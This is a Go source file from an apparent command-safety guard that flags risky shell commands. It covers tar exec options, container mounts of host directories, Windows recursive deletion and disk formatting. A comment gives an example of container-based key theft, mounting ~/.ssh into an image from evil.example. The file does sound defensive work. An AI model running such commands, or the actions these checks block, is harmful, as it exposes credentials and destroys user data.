package shell

import (
	"maps"
	"path"
	"slices"
	"strings"

	"github.com/overseer-dev/overseer/internal/action"
	"github.com/overseer-dev/overseer/internal/guard"
	"go.yaml.in/yaml/v3"
	"mvdan.cc/sh/v3/syntax"
)

// This file judges programs that run other commands in ways the wrappers
// of rules.yaml cannot describe (GNU parallel, tar's command options,
// containers with the host's directories mounted), and Windows deletion
// and formatting commands. Environment variables are judged in envvars.go.

// registerForeign adds the handlers of this file.
func registerForeign() {
	handlers["parallel"] = (*analyzer).parallelCmd
	for _, n := range []string{"docker", "podman", "nerdctl"} {
		handlers[n] = (*analyzer).containerCmd
	}
	for _, n := range []string{"docker-compose", "podman-compose"} {
		handlers[n] = func(a *analyzer, s *segCtx) bool {
			a.composeMounts(s.name, s.args)
			return false
		}
	}
	for _, n := range []string{"remove-item", "ri", "rd", "del", "erase"} {
		handlers[n] = (*analyzer).winDeleteCmd
	}
	for _, n := range []string{"format", "format-volume", "clear-disk", "initialize-disk"} {
		handlers[n] = (*analyzer).winFormatCmd
	}
	handlers["cmd"] = (*analyzer).cmdExeCmd
	handlers["expect"] = (*analyzer).expectCmd
	handlers["rmdir"] = func(a *analyzer, s *segCtx) bool {
		for _, x := range s.args {
			if !x.dyn && winSwitch(strings.ToLower(x.val)) {
				return a.winDeleteCmd(s) // rmdir /s /q DIR
			}
		}
		return a.rmCmd(s)
	}
}

var parallelValueOpts = makeSet([]string{"-j", "--jobs", "-S", "--sshlogin", "--joblog", "--results", "--res",
	"-d", "--delimiter", "--colsep", "-C", "-N", "-n", "--max-args", "-L", "--max-lines", "--timeout", "--tmpdir",
	"--workdir", "--wd", "--env", "--halt", "--memfree", "--load", "--delay", "--retries", "-E", "--eof",
	"--tag-string", "--tagstring", "--basefile", "--bf", "--return", "--transfer-file", "--tf", "--sshloginfile",
	"--slf", "--shebang-wrap", "--limit", "--termseq", "--progress-bar", "--header", "--cat", "--fifo"}, false)

// parallelCmd judges GNU parallel: the command runs once per input item,
// with the item appended or put in place of {}.
func (a *analyzer) parallelCmd(s *segCtx) bool {
	a.bump(action.Auto)
	args := s.args
	isSep := func(v string) bool { return v == ":::" || v == "::::" || v == ":::+" || v == "::::+" }
	j := 0
	replace := "{}"
	argFile := false
	for j < len(args) {
		v := args[j].val
		if args[j].dyn || isSep(v) || !strings.HasPrefix(v, "-") {
			break
		}
		if v == "--" {
			j++
			break
		}
		switch {
		case v == "-I" && j+1 < len(args):
			replace = args[j+1].val
			j += 2
			continue
		case v == "-a" || v == "--arg-file" || v == "--argfile":
			argFile = true
			j += 2
			continue
		case parallelValueOpts.has(v):
			j += 2
			continue
		}
		j++
	}
	var cmd []arg
	for j < len(args) && !(isSep(args[j].val) && !args[j].dyn) {
		cmd = append(cmd, args[j])
		j++
	}
	var items []arg
	known := false
	for j < len(args) {
		sep := args[j].val
		j++
		if strings.HasPrefix(sep, "::::") {
			known = false
			break
		}
		known = true
		for j < len(args) && !(isSep(args[j].val) && !args[j].dyn) {
			items = append(items, args[j])
			j++
		}
	}
	if !known && !argFile && j >= len(args) && len(items) == 0 {
		if in, ok := a.inputText(s); ok {
			lines, _ := xargsItems(in.text, true, "")
			for _, l := range lines {
				items = append(items, arg{val: l})
			}
			known = len(lines) > 0
		}
	}
	if !known || anyDyn(items) || len(items) > 16 {
		if len(cmd) == 0 {
			a.dynamicCode(arg{val: "parallel"}, "parallel runs commands that arrive on its input")
			return true
		}
		a.nestedCommand(cmd, cmdCtx{origin: OriginXargs, extraDyn: true}, s.idx)
		return true
	}
	for _, it := range items {
		if len(cmd) == 0 {
			a.nestedScript(it.val, OriginXargs, s.idx)
			continue
		}
		if anyDyn(cmd) {
			a.nestedCommand(cmd, cmdCtx{origin: OriginXargs, extraDyn: true}, s.idx)
			break
		}
		script := joinVals(cmd)
		q := shellQuote(it.val)
		replaced := false
		for _, r := range []string{replace, "{.}", "{/}", "{//}", "{/.}"} {
			if r != "" && strings.Contains(script, r) {
				script = strings.ReplaceAll(script, r, q)
				replaced = true
			}
		}
		if !replaced {
			script += " " + q
		}
		a.nestedScript(script, OriginXargs, s.idx)
	}
	a.cur = s.idx
	return true
}

// shellQuote quotes s for a shell when it needs quoting.
func shellQuote(s string) string {
	if s != "" && !strings.ContainsAny(s, " \t\n'\"\\$`;&|<>(){}[]*?!#~") {
		return s
	}
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
}

// tarRuns judges the commands tar's options make it run.
func (a *analyzer) tarRuns(s *segCtx) {
	for _, o := range []string{"--to-command", "--use-compress-program", "-I", "--rsh-command"} {
		x, ok := optValue(s.args, o)
		if !ok {
			continue
		}
		if x.dyn {
			a.dynamicCode(x, "tar "+o+" runs a command computed at run time: "+x.val)
			continue
		}
		a.nestedScript(x.val, OriginXargs, s.idx)
		a.cur = s.idx
	}
	for _, x := range s.args {
		v, ok := strings.CutPrefix(x.val, "--checkpoint-action=")
		if !ok || x.dyn {
			continue
		}
		if c, ok := strings.CutPrefix(v, "exec="); ok {
			a.nestedScript(c, OriginXargs, s.idx)
			a.cur = s.idx
		}
	}
}

// mount is a host directory a container sees.
type mount struct {
	target, source string
}

// containerCtx is what is known about the container a command runs in.
type containerCtx struct {
	mounts []mount
}

var containerValueOpts = makeSet([]string{"-v", "--volume", "--mount", "-w", "--workdir", "-e", "--env",
	"--env-file", "-p", "--publish", "--name", "--network", "--net", "-u", "--user", "--entrypoint", "-m",
	"--memory", "--cpus", "-l", "--label", "-h", "--hostname", "--add-host", "--device", "--cap-add",
	"--cap-drop", "--security-opt", "--tmpfs", "--ulimit", "--restart", "--platform", "--pull", "--log-driver",
	"--log-opt", "--shm-size", "--ipc", "--pid", "--userns", "--volumes-from", "--gpus", "--runtime",
	"--cidfile", "--dns", "--expose", "--group-add", "--health-cmd", "--isolation", "--link", "--mac-address",
	"--stop-signal", "--stop-timeout", "--sysctl", "--cgroupns", "-a", "--attach", "--detach-keys",
	"--annotation", "--label-file", "--cpuset-cpus", "--memory-swap", "--uts", "--ip", "--ip6",
	"--network-alias", "--storage-opt", "--blkio-weight", "--cpu-shares", "-c", "--oom-score-adj"}, false)

// containerCmd judges docker, podman and nerdctl run and create: the
// host directories mounted into the container are where the command in
// it has effects outside the container.
func (a *analyzer) containerCmd(s *segCtx) bool {
	args := s.args
	j := 0
	gopts := a.r.globalOpts[s.name]
	for j < len(args) && strings.HasPrefix(args[j].val, "-") && !args[j].dyn {
		if n, _, eq := strings.Cut(args[j].val, "="); !eq && gopts != nil && gopts.has(n) {
			j++
		}
		j++
	}
	if j >= len(args) || args[j].dyn {
		return false
	}
	sub := args[j].val
	j++
	if sub == "compose" {
		a.composeMounts(s.name+" compose", args[j:])
		return false
	}
	if sub == "container" && j < len(args) {
		sub = args[j].val
		j++
	}
	if sub != "run" && sub != "create" {
		return false
	}
	var ctx containerCtx
	var entry []arg
	workdir := ""
	addMount := func(src, dst string, ro bool) {
		if src == "" || dst == "" {
			return
		}
		if !strings.HasPrefix(src, "/") && !strings.HasPrefix(src, "~") && !strings.HasPrefix(src, ".") {
			return // a named volume
		}
		host, known := a.abs(src)
		if !known {
			return
		}
		a.mountRead(src)
		if ro {
			return
		}
		ctx.mounts = append(ctx.mounts, mount{target: path.Clean(dst), source: host})
		if d := a.danger(host); d != dangerNone {
			a.add(guard.Finding{Check: "shell.container-mount", Level: action.Approve, Hard: true,
				Message: s.name + " gives a container " + d.describe(host) + " to write"})
		}
	}
	volume := func(v string) {
		parts := strings.Split(v, ":")
		if len(parts) >= 2 {
			ro := len(parts) >= 3 && slices.Contains(strings.Split(parts[2], ","), "ro")
			addMount(parts[0], parts[1], ro)
		}
	}
	bind := func(v string) {
		src, dst, ro, isBind := "", "", false, false
		for _, kv := range strings.Split(v, ",") {
			k, val, _ := strings.Cut(kv, "=")
			switch k {
			case "type":
				isBind = val == "bind"
			case "source", "src":
				src = val
			case "target", "destination", "dst":
				dst = val
			case "readonly", "ro":
				ro = val == "" || val == "true" || val == "1"
			}
		}
		if isBind {
			addMount(src, dst, ro)
		}
	}
	for j < len(args) {
		x := args[j]
		v := x.val
		if x.dyn || !strings.HasPrefix(v, "-") {
			break
		}
		if v == "--" {
			j++
			break
		}
		name, val, eq := strings.Cut(v, "=")
		if !eq && strings.HasPrefix(v, "-v") && len(v) > 2 && !strings.HasPrefix(v, "--") {
			name, val, eq = "-v", v[2:], true
		}
		if !containerValueOpts.has(name) {
			j++
			continue
		}
		var value arg
		if eq {
			value = arg{val: val}
			j++
		} else {
			if j+1 >= len(args) {
				return false
			}
			value = args[j+1]
			j += 2
		}
		if value.dyn {
			if name == "-v" || name == "--volume" || name == "--mount" {
				a.add(guard.Finding{Check: "shell.container-mount", Level: action.Confirm,
					Message: s.name + " mounts a host path computed at run time: " + value.val})
			}
			continue
		}
		switch name {
		case "-v", "--volume":
			volume(value.val)
		case "--mount":
			bind(value.val)
		case "-w", "--workdir":
			workdir = value.val
		case "--entrypoint":
			entry = []arg{value}
		}
	}
	if j >= len(args) {
		return false
	}
	cmd := append(entry, args[j+1:]...)
	if len(cmd) == 0 {
		return false
	}
	// The command runs inside the container: only the mounted host
	// directories are the host's.
	saved := *a
	a.container = &ctx
	a.env.Home, a.vars, a.pos, a.posKnown, a.cwdKnown = "", nil, nil, false, false
	if workdir != "" {
		if p, ok := a.abs(workdir); ok {
			a.cwd, a.cwdKnown = p, true
		}
	}
	a.nestedCommand(cmd, cmdCtx{origin: OriginContainer}, s.idx)
	a.container, a.env.Home, a.vars, a.pos, a.posKnown = saved.container, saved.env.Home, saved.vars, saved.pos, saved.posKnown
	a.cwd, a.cwdKnown, a.cur = saved.cwd, saved.cwdKnown, s.idx
	return false
}

// containerPath resolves p inside a container: a path under a mount is
// the host path it names; any other path is the container's own, which
// is not judged as the host's ("container:/etc", not known).
func (a *analyzer) containerPath(p string) (string, bool) {
	if strings.HasPrefix(p, "~") {
		return "container:" + p, false
	}
	if !path.IsAbs(p) {
		if !a.cwdKnown {
			return path.Clean(p), false
		}
		return path.Join(a.cwd, p), true
	}
	p = path.Clean(p)
	best := -1
	for i, m := range a.container.mounts {
		if action.Within(m.target, p) && (best < 0 || len(m.target) > len(a.container.mounts[best].target)) {
			best = i
		}
	}
	if best < 0 {
		return "container:" + p, false
	}
	m := a.container.mounts[best]
	return path.Join(m.source, strings.TrimPrefix(p, m.target)), true
}

// winSwitch reports whether v is a cmd.exe switch ("/s", "/Q").
func winSwitch(v string) bool {
	return len(v) >= 2 && v[0] == '/' && isLetters(v[1:2]) && (len(v) == 2 || v[2] == ':')
}

// winDeleteCmd judges Remove-Item (ri), rd, del and erase: recursive
// deletion of a drive's root or a system directory blocks.
func (a *analyzer) winDeleteCmd(s *segCtx) bool {
	recursive := false
	var targets []arg
	for j := 0; j < len(s.args); j++ {
		x := s.args[j]
		lv := strings.ToLower(x.val)
		switch {
		case x.dyn:
			targets = append(targets, x)
		case winSwitch(lv):
			recursive = recursive || lv == "/s"
		case strings.HasPrefix(lv, "-"):
			switch {
			case strings.HasPrefix("-recurse", lv) && len(lv) >= 2:
				recursive = true
			case lv == "-path" || lv == "-literalpath" || lv == "-lp":
				if j+1 < len(s.args) {
					targets = append(targets, s.args[j+1])
					j++
				}
			case lv == "-include" || lv == "-exclude" || lv == "-filter" || lv == "-stream":
				j++
			}
		default:
			for _, t := range strings.Split(x.val, ",") {
				targets = append(targets, arg{val: t})
			}
		}
	}
	for _, t := range targets {
		if t.dyn {
			a.add(guard.Finding{Check: "shell.rm-dynamic", Level: action.Approve, Hard: true,
				Message: s.name + " removes a path computed at run time: " + t.val})
			continue
		}
		dir := strings.TrimRight(strings.TrimSuffix(strings.TrimSuffix(t.val, "*.*"), "*"), `\/`)
		if len(dir) == 2 && dir[1] == ':' {
			dir += `\`
		}
		p, _ := a.abs(dir)
		if d := a.danger(p); d != dangerNone && (recursive || dir != t.val) {
			a.add(guard.Finding{Check: "shell.rm-" + d.check(), Level: action.Block, Hard: true,
				Message: s.name + " " + t.val + " removes " + d.describe(p)})
			continue
		}
		known := false
		p, known = a.abs(t.val)
		a.pathFact(p, known, action.PathDelete)
		a.deleteWhere(s.name, p, known)
		a.class("write", action.Notify, s.name+" "+t.val)
	}
	return true
}

// winFormatCmd judges format, Format-Volume, Clear-Disk and
// Initialize-Disk given a drive or a disk.
func (a *analyzer) winFormatCmd(s *segCtx) bool {
	for j, x := range s.args {
		v := strings.ToLower(x.val)
		drive := len(v) == 2 && v[1] == ':' && isLetter(v[0]) || len(v) == 3 && v[1] == ':' && isLetter(v[0]) && (v[2] == '\\' || v[2] == '/')
		if drive || s.name != "format" && (v == "-driveletter" || v == "-number" || v == "-disknumber" || v == "-path") && j+1 < len(s.args) {
			a.add(guard.Finding{Check: "shell.mkfs", Level: action.Block, Hard: true,
				Message: "formats or erases a disk, destroying its contents: " + describeArgs(s.name, s.args)})
			return true
		}
	}
	if s.name != "format" {
		a.add(guard.Finding{Check: "shell.disk", Level: action.Approve,
			Message: s.name + " erases disk data: " + describeArgs(s.name, s.args)})
		return true
	}
	return false
}

// cmdExeCmd judges cmd.exe /c and /k: the rest of the line is a command.
func (a *analyzer) cmdExeCmd(s *segCtx) bool {
	for j, x := range s.args {
		lv := strings.ToLower(x.val)
		if lv != "/c" && lv != "/k" && lv != "/r" {
			continue
		}
		rest := s.args[j+1:]
		if anyDyn(rest) {
			a.dynamicCode(rest[0], "cmd runs a command computed at run time")
			return true
		}
		a.bump(action.Auto)
		a.foreignScript(joinVals(rest), OriginShellC, s.idx)
		return true
	}
	return false
}

// foreignScript judges code of another shell (cmd.exe, PowerShell) that
// reads as POSIX shell: simple commands separated by ; or &&. Code that
// does not parse is left to the caller's finding. Backslashes are path
// separators there, not escapes: they are read as slashes.
func (a *analyzer) foreignScript(src string, origin Origin, idx int) bool {
	src = strings.ReplaceAll(src, `\`, "/")
	p := parsers.Get().(*syntax.Parser)
	_, err := p.Parse(strings.NewReader(src), "")
	parsers.Put(p)
	if err != nil {
		return false
	}
	a.nestedScript(src, origin, idx)
	a.cur = idx
	return true
}

// expectCmd judges the commands an expect script given with -c starts
// (spawn, exec, system). expect itself stays unknown: what it sends to
// the programs it starts is not followed.
func (a *analyzer) expectCmd(s *segCtx) bool {
	for j, x := range s.args {
		if x.val != "-c" || j+1 >= len(s.args) {
			continue
		}
		c := s.args[j+1]
		if c.dyn {
			a.dynamicCode(c, "expect runs a script computed at run time")
			continue
		}
		for _, cmd := range tclCommands(c.val) {
			if len(cmd) < 2 {
				continue
			}
			words := cmd[1:]
			switch cmd[0] {
			case "spawn":
				for len(words) > 0 && strings.HasPrefix(words[0], "-") {
					if words[0] == "-ignore" && len(words) > 1 {
						words = words[1:]
					}
					words = words[1:]
				}
			case "exec":
				for len(words) > 0 && strings.HasPrefix(words[0], "-") {
					words = words[1:]
				}
			case "system":
				a.nestedScript(strings.Join(words, " "), OriginShellC, s.idx)
				a.cur = s.idx
				continue
			default:
				continue
			}
			if len(words) == 0 {
				continue
			}
			q := make([]string, len(words))
			for i, w := range words {
				q[i] = shellQuote(w)
			}
			a.nestedScript(strings.Join(q, " "), OriginShellC, s.idx)
			a.cur = s.idx
		}
	}
	return false
}

// tclCommands splits Tcl source into commands of words: commands end at a
// newline or ";", words are separated by blanks, and "…" and {…} group.
func tclCommands(src string) [][]string {
	var out [][]string
	var cmd []string
	var b strings.Builder
	inWord := false
	flush := func() {
		if inWord {
			cmd = append(cmd, b.String())
			b.Reset()
			inWord = false
		}
	}
	for i := 0; i < len(src); i++ {
		c := src[i]
		switch {
		case c == '\\' && i+1 < len(src):
			i++
			b.WriteByte(src[i])
			inWord = true
		case c == '"' && !inWord:
			j := strings.IndexByte(src[i+1:], '"')
			if j < 0 {
				j = len(src) - i - 1
			}
			b.WriteString(src[i+1 : i+1+j])
			i += j + 1
			inWord = true
		case c == '{' && !inWord:
			depth, j := 1, i+1
			for ; j < len(src) && depth > 0; j++ {
				if src[j] == '{' {
					depth++
				} else if src[j] == '}' {
					depth--
				}
			}
			b.WriteString(src[i+1 : max(j-1, i+1)])
			i = j - 1
			inWord = true
		case c == ' ' || c == '\t':
			flush()
		case c == '\n' || c == ';':
			flush()
			if len(cmd) > 0 {
				out = append(out, cmd)
			}
			cmd = nil
		default:
			b.WriteByte(c)
			inWord = true
		}
	}
	flush()
	if len(cmd) > 0 {
		out = append(out, cmd)
	}
	return out
}

// mountRead records a host path mounted into a container as read, with
// what is below it: the container's code — an image's, which the guard
// does not see — reads it, and may send it anywhere (docker run -v
// ~/.ssh:/k evil.example/img was confirm, and no secret read).
func (a *analyzer) mountRead(src string) {
	a.candidate(arg{val: src}, inRead, true)
}

// projectEnvFile reports whether p is an environment file of the project
// whose compose file is in dir: named as one (.env, .env.local, app.env)
// and in the working directory, dir, the git work tree that holds dir, or
// (no work tree) a project directory of the home.
func (a *analyzer) projectEnvFile(p, dir string) bool {
	b := strings.ToLower(path.Base(p))
	if b != ".env" && !strings.HasPrefix(b, ".env.") && !strings.HasSuffix(b, ".env") {
		return false
	}
	if a.cwdKnown && action.Within(a.cwd, p) || action.Within(dir, p) {
		return true
	}
	for d, n := dir, 0; n < 16 && path.IsAbs(d); n++ {
		if a.env.Home != "" && d == a.env.Home || d == "/" {
			break
		}
		if a.fileExists(path.Join(d, ".git")) {
			return action.Within(d, p)
		}
		d = path.Dir(d)
	}
	// No work tree: a project directory of the home (~/proj/.env), not the
	// home's own files or its hidden directories (~/.env, ~/.config/x/.env).
	if a.env.Home == "" || !action.Within(a.env.Home, path.Dir(p)) || path.Dir(p) == a.env.Home {
		return false
	}
	for _, c := range strings.Split(strings.TrimPrefix(path.Dir(p), a.env.Home+"/"), "/") {
		if strings.HasPrefix(c, ".") {
			return false
		}
	}
	return true
}

// composeEnvFiles returns the paths of a service's env_file: a path, a
// list of paths, or a list of {path: …, required: …}.
func composeEnvFiles(v any) []string {
	switch x := v.(type) {
	case string:
		return []string{x}
	case []any:
		var out []string
		for _, e := range x {
			switch y := e.(type) {
			case string:
				out = append(out, y)
			case map[string]any:
				if p, ok := y["path"].(string); ok {
					out = append(out, p)
				}
			}
		}
		return out
	}
	return nil
}

// maxComposeFile is the largest compose file read.
const maxComposeFile = 256 << 10

// composeFiles are the files docker compose reads when -f names none.
var composeFiles = []string{"compose.yaml", "compose.yml", "docker-compose.yml", "docker-compose.yaml",
	"compose.override.yaml", "compose.override.yml", "docker-compose.override.yml", "docker-compose.override.yaml"}

// composeMounts judges the host paths the services of a compose file
// mount (volumes: ["~/.ssh:/k"], or type: bind with a source) when
// compose starts them: each is read, as docker run -v's. The compose file
// is data an earlier action may have written; it is read as it is on disk.
// A file that cannot be read, or a source computed from a variable other
// than HOME, reaches a person.
func (a *analyzer) composeMounts(name string, args []arg) {
	var files []string
	dir := a.cwd
	sub := ""
	for j := 0; j < len(args); j++ {
		x := args[j]
		if x.dyn {
			return
		}
		v := x.val
		if !strings.HasPrefix(v, "-") {
			sub = v
			break
		}
		n, val, eq := strings.Cut(v, "=")
		switch n {
		case "-f", "--file", "--project-directory", "-p", "--project-name", "--env-file", "--profile", "--ansi", "--progress", "--parallel":
			if !eq {
				if j+1 >= len(args) {
					return
				}
				j++
				val = args[j].val
				if args[j].dyn && (n == "-f" || n == "--file" || n == "--project-directory") {
					a.add(guard.Finding{Check: "shell.container-mount", Level: action.Confirm,
						Message: name + " reads a compose file computed at run time: " + val})
					return
				}
			}
			switch n {
			case "-f", "--file":
				files = append(files, val)
			case "--project-directory":
				if p, ok := a.abs(val); ok {
					dir = a.expandHome(p)
				}
			}
		}
	}
	switch sub {
	case "up", "run", "create", "start", "restart", "watch":
	default:
		return
	}
	if !a.cwdKnown {
		return
	}
	if len(files) == 0 {
		for _, f := range composeFiles {
			q := path.Join(dir, f)
			if _, w := a.written[q]; w || a.exists(q) || a.changedBefore(q, a.cur) {
				files = append(files, q)
			}
		}
	}
	for _, f := range files {
		p, ok := a.abs(f)
		if !ok {
			continue
		}
		p = a.expandHome(p)
		// A compose file this command writes is judged by that text; one
		// it changes in a way not known reaches a person.
		var b []byte
		ok = false
		if w, written := a.written[p]; written {
			t, known := a.writtenContentAt(w, a.cur)
			b, ok = []byte(t), known && len(t) <= maxComposeFile
		} else if !a.changedBefore(p, a.cur) {
			b, ok = a.readRegular(strings.TrimPrefix(p, "/"), maxComposeFile)
		}
		if !ok {
			a.add(guard.Finding{Check: "shell.container-mount", Level: action.Confirm,
				Message: name + " starts the services of " + p + ", which could not be read to see what they mount"})
			continue
		}
		var doc struct {
			Services map[string]struct {
				Volumes []any `yaml:"volumes"`
				EnvFile any   `yaml:"env_file"`
			} `yaml:"services"`
			Secrets map[string]struct {
				File string `yaml:"file"`
			} `yaml:"secrets"`
			Configs map[string]struct {
				File string `yaml:"file"`
			} `yaml:"configs"`
		}
		if yaml.Unmarshal(b, &doc) != nil {
			a.add(guard.Finding{Check: "shell.container-mount", Level: action.Confirm,
				Message: name + " starts the services of " + p + ", which could not be parsed to see what they mount"})
			continue
		}
		base := path.Dir(p)
		// Files compose gives the containers whole: secrets and configs
		// (mounted as bind mounts are), and env_file (the variables of
		// the container's processes). An environment file of the working
		// tree (.env) is not judged as read: a web project's compose file
		// names one for every service, and its containers see the tree's
		// files through the usual ".:/app" mount anyway (the threat model
		// lists this as open); one outside the tree (~/.aws/credentials)
		// is read.
		var given []string
		for _, name := range slices.Sorted(maps.Keys(doc.Secrets)) {
			given = append(given, doc.Secrets[name].File)
		}
		for _, name := range slices.Sorted(maps.Keys(doc.Configs)) {
			given = append(given, doc.Configs[name].File)
		}
		for _, name := range slices.Sorted(maps.Keys(doc.Services)) {
			for _, f := range composeEnvFiles(doc.Services[name].EnvFile) {
				if strings.Contains(f, "$") {
					given = append(given, f) // computed: judged below
					continue
				}
				q := f
				if !strings.HasPrefix(q, "/") && !strings.HasPrefix(q, "~") {
					q = path.Join(base, q)
				}
				if h, ok := a.abs(q); ok && a.projectEnvFile(a.expandHome(h), base) {
					continue
				}
				given = append(given, f)
			}
		}
		for _, src := range given {
			if src == "" {
				continue
			}
			src = homeTilde(src)
			if strings.Contains(src, "$") {
				a.add(guard.Finding{Check: "shell.container-mount", Level: action.Confirm,
					Message: name + " gives a container a host file computed at run time: " + src})
				continue
			}
			if !strings.HasPrefix(src, "/") && !strings.HasPrefix(src, "~") {
				src = path.Join(base, src) // relative to the compose file
			}
			a.mountRead(src)
		}
		for _, svc := range doc.Services {
			for _, v := range svc.Volumes {
				src := ""
				switch v := v.(type) {
				case string:
					parts := strings.Split(v, ":")
					if len(parts) >= 2 {
						src = parts[0]
					}
				case map[string]any:
					if t, _ := v["type"].(string); t == "bind" {
						src, _ = v["source"].(string)
					}
				}
				if src == "" {
					continue
				}
				src = homeTilde(src)
				if strings.Contains(src, "$") {
					a.add(guard.Finding{Check: "shell.container-mount", Level: action.Confirm,
						Message: name + " mounts a host path computed at run time: " + src})
					continue
				}
				if !strings.HasPrefix(src, "/") && !strings.HasPrefix(src, "~") && !strings.HasPrefix(src, ".") {
					continue // a named volume
				}
				if strings.HasPrefix(src, ".") {
					src = path.Join(base, src) // relative to the compose file
				}
				a.mountRead(src)
				if h, ok := a.abs(src); ok {
					if d := a.danger(a.expandHome(h)); d != dangerNone {
						a.add(guard.Finding{Check: "shell.container-mount", Level: action.Approve, Hard: true,
							Message: name + " gives a container " + d.describe(a.expandHome(h)) + " to write (" + p + ")"})
					}
				}
			}
		}
	}
}

// homeTilde writes a compose file's host path that starts with $HOME or
// ${HOME} (which compose takes from the environment) with ~.
func homeTilde(src string) string {
	for _, h := range []string{"${HOME}", "$HOME"} {
		if rest, ok := strings.CutPrefix(src, h); ok {
			return "~" + rest
		}
	}
	return src
}
